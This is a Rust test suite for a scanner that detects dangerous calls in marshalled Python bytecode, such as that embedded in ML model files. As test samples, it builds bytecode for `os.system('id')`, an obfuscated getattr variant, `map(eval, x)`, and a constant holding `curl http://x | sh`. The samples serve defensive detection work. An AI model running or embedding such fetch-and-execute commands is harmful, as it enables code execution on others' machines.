//! Marshalled code built by hand for each layout, as CPython's own compiler lays it out.

use super::*;
use bartizan_core::{Clock, Finding, Limits, Severity};
use proptest::prelude::*;
use std::time::Duration;

/// Writes marshal as CPython does, without references.
#[derive(Default)]
struct Writer(Vec<u8>);

impl Writer {
    fn long(&mut self, value: u32) -> &mut Self {
        self.0.extend(value.to_le_bytes());
        self
    }

    fn bytes(&mut self, bytes: &[u8]) -> &mut Self {
        self.0.push(b's');
        self.long(bytes.len() as u32).0.extend(bytes);
        self
    }

    fn text(&mut self, version: u16, text: &str) -> &mut Self {
        match version {
            207 => self.0.push(b't'),
            _ => self.0.push(b'u'),
        }
        self.long(text.len() as u32).0.extend(text.as_bytes());
        self
    }

    fn tuple(&mut self, version: u16, items: &[Item<'_>]) -> &mut Self {
        self.0.push(b'(');
        self.long(items.len() as u32);
        for item in items {
            match item {
                Item::None => self.0.push(b'N'),
                Item::Int(value) => {
                    self.0.push(b'i');
                    self.long(*value);
                }
                Item::Text(text) => drop(self.text(version, text)),
                Item::Raw(raw) => self.0.extend(*raw),
            }
        }
        self
    }
}

enum Item<'a> {
    None,
    Int(u32),
    Text(&'a str),
    Raw(&'a [u8]),
}

/// One code object in the layout of `version`.
fn code(version: u16, bytecode: &[u8], consts: &[Item<'_>], names: &[&str], locals: &[&str]) -> Vec<u8> {
    let counts = match version {
        207 => 4,
        308..311 => 6,
        _ => 5,
    };
    let mut writer = Writer(vec![b'c']);
    for _ in 0..counts {
        writer.long(1);
    }
    let names: Vec<Item<'_>> = names.iter().map(|name| Item::Text(name)).collect();
    let locals: Vec<Item<'_>> = locals.iter().map(|name| Item::Text(name)).collect();
    writer.bytes(bytecode).tuple(version, consts).tuple(version, &names).tuple(version, &locals);
    if version >= 311 {
        writer.bytes(b"").text(version, "<none>").text(version, "<lambda>").text(version, "<lambda>");
        writer.long(1).bytes(b"").bytes(b"");
    } else {
        writer.tuple(version, &[]).tuple(version, &[]).text(version, "<none>").text(version, "<lambda>");
        writer.long(1).bytes(b"");
    }
    writer.0
}

/// `__import__('os').system('id')` as each version compiles it.
fn import_and_system(version: u16) -> Vec<u8> {
    let consts = [Item::None, Item::Text("os"), Item::Text("id")];
    let names = ["__import__", "system"];
    let bytecode: &[u8] = match version {
        207 | 305 => &[116, 0, 0, 100, 1, 0, 131, 1, 0, 106, 1, 0, 100, 2, 0, 131, 1, 0, 83],
        306 => &[116, 0, 100, 1, 131, 1, 106, 1, 100, 2, 131, 1, 83, 0],
        307 | 308 | 310 => &[116, 0, 100, 1, 131, 1, 160, 1, 100, 2, 161, 1, 83, 0],
        311 => &[
            151, 0, 116, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 100, 1, 166, 1, 0, 0, 171, 1, 0, 0, 0, 0, 0, 0, 0,
            0, 160, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 100, 2, 166, 1, 0, 0, 171,
            1, 0, 0, 0, 0, 0, 0, 0, 0, 83, 0,
        ],
        312 => &[
            151, 0, 116, 1, 0, 0, 0, 0, 0, 0, 0, 0, 100, 1, 171, 1, 0, 0, 0, 0, 0, 0, 106, 3, 0, 0, 0, 0, 0,
            0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 100, 2, 171, 1, 0, 0, 0, 0, 0, 0, 83, 0,
        ],
        313 => &[
            149, 0, 91, 1, 0, 0, 0, 0, 0, 0, 0, 0, 83, 1, 53, 1, 0, 0, 0, 0, 0, 0, 82, 3, 0, 0, 0, 0, 0, 0,
            0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 83, 2, 53, 1, 0, 0, 0, 0, 0, 0, 36, 0,
        ],
        314 => &[
            128, 0, 92, 1, 0, 0, 0, 0, 0, 0, 0, 0, 82, 1, 52, 1, 0, 0, 0, 0, 0, 0, 80, 3, 0, 0, 0, 0, 0, 0,
            0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 82, 2, 52, 1, 0, 0, 0, 0, 0, 0, 35, 0,
        ],
        _ => &[],
    };
    code(version, bytecode, &consts, &names, &["x"])
}

const VERSIONS: [u16; 9] = [207, 305, 306, 307, 308, 311, 312, 313, 314];

/// `lambda x: x * 2` of 3.8.
fn doubling() -> Vec<u8> {
    code(308, &[124, 0, 100, 1, 20, 0, 83, 0], &[Item::None, Item::Int(2)], &[], &["x"])
}

struct NoTime;

impl Clock for NoTime {
    fn elapsed(&self) -> Duration {
        Duration::ZERO
    }
}

/// What a scan of `bytes` as a payload reports, and whether it was code.
fn inspected(bytes: &[u8]) -> (bool, Vec<Finding>) {
    let limits = Limits::default();
    let mut scan = Scan::new(&limits, &NoTime);
    let is_code = inspect(bytes, &Location::default(), &mut scan);
    (is_code, scan.findings().to_vec())
}

fn worst(findings: &[Finding]) -> Option<Severity> {
    findings.iter().map(|finding| finding.severity).max()
}

#[test]
fn a_call_is_followed_from_import_to_argument_in_every_version() {
    for version in VERSIONS {
        let bytes = import_and_system(version);
        let summary = summarize(&bytes).unwrap();
        let call = summary.calls.iter().find(|call| call.callee == "os.system");
        assert_eq!(
            call.map(|call| call.arguments.as_slice()),
            Some(["'id'".to_owned()].as_slice()),
            "{version}: {summary:?}"
        );
        let (is_code, findings) = inspected(&bytes);
        assert!(is_code);
        let finding =
            findings.iter().find(|finding| finding.rule.id == "model/bytecode-dangerous-call").unwrap();
        assert_eq!(
            (finding.severity, finding.evidence.as_str()),
            (Severity::Critical, "os.system('id')"),
            "{version}"
        );
    }
}

#[test]
fn the_version_is_told_by_the_opcodes() {
    for version in [207, 311, 312, 313, 314] {
        let summary = summarize(&import_and_system(version)).unwrap();
        assert_eq!(u16::from(summary.version.0) * 100 + u16::from(summary.version.1), version);
    }
}

#[test]
fn arithmetic_reports_nothing() {
    let (is_code, findings) = inspected(&doubling());
    assert!(is_code);
    assert_eq!(findings, []);
}

#[test]
fn a_tensor_function_reports_nothing() {
    // `lambda x: tf.nn.relu(x)` of 3.6
    let bytes = code(
        306,
        &[116, 0, 106, 1, 106, 2, 124, 0, 131, 1, 83, 0],
        &[Item::None],
        &["tf", "nn", "relu"],
        &["x"],
    );
    assert_eq!(inspected(&bytes).1, []);
}

#[test]
fn getattr_with_constants_is_resolved() {
    // `getattr(__import__('os'), 'sys' + 'tem')('id')` of 3.6
    let consts = [Item::None, Item::Text("os"), Item::Text("sys"), Item::Text("tem"), Item::Text("id")];
    let bytecode = [116, 0, 116, 1, 100, 1, 131, 1, 100, 2, 100, 3, 23, 0, 131, 2, 100, 4, 131, 1, 83, 0];
    let bytes = code(306, &bytecode, &consts, &["getattr", "__import__"], &[]);
    assert_eq!(worst(&inspected(&bytes).1), Some(Severity::Critical));
}

#[test]
fn code_inside_a_constant_is_read_too() {
    let inner = import_and_system(308);
    let mut raw = Writer::default();
    raw.bytes(&inner);
    let bytes = code(308, &[100, 1, 83, 0], &[Item::None, Item::Raw(&raw.0)], &[], &[]);
    assert_eq!(worst(&inspected(&bytes).1), Some(Severity::Critical));
}

#[test]
fn a_shell_command_among_the_constants_is_reported() {
    let bytes = code(308, &[100, 1, 83, 0], &[Item::None, Item::Text("curl http://x | sh")], &[], &[]);
    assert_eq!(inspected(&bytes).1.first().map(|finding| finding.rule.id), Some("model/bytecode-payload"));
}

#[test]
fn a_dangerous_function_that_is_only_passed_on_is_reported() {
    // `map(eval, x)` of 3.6
    let bytes = code(306, &[116, 0, 116, 1, 124, 0, 131, 2, 83, 0], &[Item::None], &["map", "eval"], &["x"]);
    assert_eq!(worst(&inspected(&bytes).1), Some(Severity::High));
}

#[test]
fn both_branches_of_a_condition_keep_their_callee() {
    // `print(1 if x else 2) ; eval('1')` of 3.8: the join must not shift the stack under `eval`.
    let bytecode =
        [116, 0, 124, 0, 114, 10, 100, 1, 110, 2, 100, 2, 131, 1, 1, 0, 116, 1, 100, 3, 131, 1, 83, 0];
    let consts = [Item::None, Item::Int(1), Item::Int(2), Item::Text("1+1+1")];
    let bytes = code(308, &bytecode, &consts, &["print", "eval"], &["x"]);
    let calls = summarize(&bytes).unwrap().calls;
    assert!(calls.iter().any(|call| call.callee == "eval" && call.arguments == ["'1+1+1'"]), "{calls:?}");
    assert!(calls.iter().any(|call| call.callee == "print"), "{calls:?}");
}

#[test]
fn bytes_that_are_no_code_are_refused() {
    for bytes in [&b""[..], b"N", b"hello world", b"(\x00\x00\x00\x00", b"\x80\x04."] {
        assert!(!inspected(bytes).0);
        assert_eq!(summarize(bytes), None);
    }
}

#[test]
fn code_cut_short_is_reported_and_keeps_what_it_showed() {
    let bytes = import_and_system(308);
    let (is_code, findings) = inspected(&bytes[..bytes.len() - 20]);
    assert!(is_code);
    assert!(findings.iter().any(|finding| finding.rule.id == "model/bytecode-unreadable"));
    assert_eq!(worst(&findings), Some(Severity::Critical));
}

#[test]
fn references_and_interned_strings_resolve() {
    // A tuple holding a flagged text and a reference to it.
    let marshalled = reader::read(b")\x02\xda\x02hir\x00\x00\x00\x00");
    assert!(marshalled.error.is_none());
    let items = marshalled.items(Some(0)).to_vec();
    assert_eq!(items[0], items[1]);
}

#[test]
fn a_summary_gives_names_and_strings() {
    let summary = summarize(&import_and_system(310)).unwrap();
    assert_eq!(summary.names, ["__import__", "system"]);
    assert_eq!(summary.strings, ["os", "id"]);
    assert_eq!((summary.name.as_str(), summary.code_objects), ("<lambda>", 1));
    assert_eq!(summary.imports, ["os"]);
}

#[test]
fn tuples_built_in_tuples_cost_no_stack() {
    let bytecode = [&[100, 0][..], &[102, 1].repeat(20_000), &[83, 0]].concat();
    let (is_code, _) = inspected(&code(308, &bytecode, &[Item::None], &[], &[]));
    assert!(is_code);
}

#[test]
fn a_large_constant_loaded_again_and_again_is_not_copied() {
    let large = "A".repeat(1 << 20);
    let bytecode = [&[100, 0].repeat(20_000)[..], &[83, 0]].concat();
    let (is_code, findings) = inspected(&code(308, &bytecode, &[Item::Text(&large)], &[], &[]));
    assert!(is_code);
    assert_eq!(findings, []);
}

#[test]
fn deep_nesting_costs_no_stack() {
    let mut bytes = [b'(', 1, 0, 0, 0].repeat(100_000);
    bytes.push(b'N');
    assert!(!inspected(&bytes).0);
}

proptest! {
    #[test]
    fn any_bytes_give_a_result(bytes: Vec<u8>) {
        inspected(&bytes);
        inspected(&[&b"c"[..], &bytes].concat());
    }

    #[test]
    fn mutated_code_gives_a_result(version in proptest::sample::select(VERSIONS.to_vec()), at: prop::sample::Index, value: u8, cut: prop::sample::Index) {
        let mut bytes = import_and_system(version);
        let index = at.index(bytes.len());
        bytes[index] = value;
        let cut = cut.index(bytes.len());
        inspected(&bytes);
        inspected(&bytes[..cut]);
    }
}
